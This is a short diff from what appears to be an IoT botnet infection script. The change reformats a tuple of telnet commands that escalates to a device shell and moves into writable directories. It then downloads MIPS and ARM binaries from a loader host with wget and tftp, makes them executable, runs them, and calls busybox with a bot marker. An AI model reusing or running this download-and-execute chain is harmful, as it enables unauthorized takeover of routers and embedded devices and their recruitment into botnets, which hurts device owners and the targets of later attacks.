@@ -45,7 +45,10 @@ for thread in threads:
 for thread in threads:
     thread.join()
 """
-CHAIN = ("enable", "system", "shell", "sh", "cd /tmp || cd /var/run || cd /mnt", f"wget http://{LOADER}/bins/lab.mips-4000.elf; chmod 777 lab.mips",
+CHAIN = ("enable", "system", "shell", "sh", "cd /tmp || cd /var/run || cd /mnt", (
+    f"wget http://{LOADER}/bins/lab.mips-4000.elf; chmod 777 "
+    "lab.mips"
+),
          f"tftp -g -r lab.arm7 {LOADER}; chmod 777 lab.arm7", "./lab.mips telnet", "/bin/busybox LABBOT")  # fmt: skip
 
 
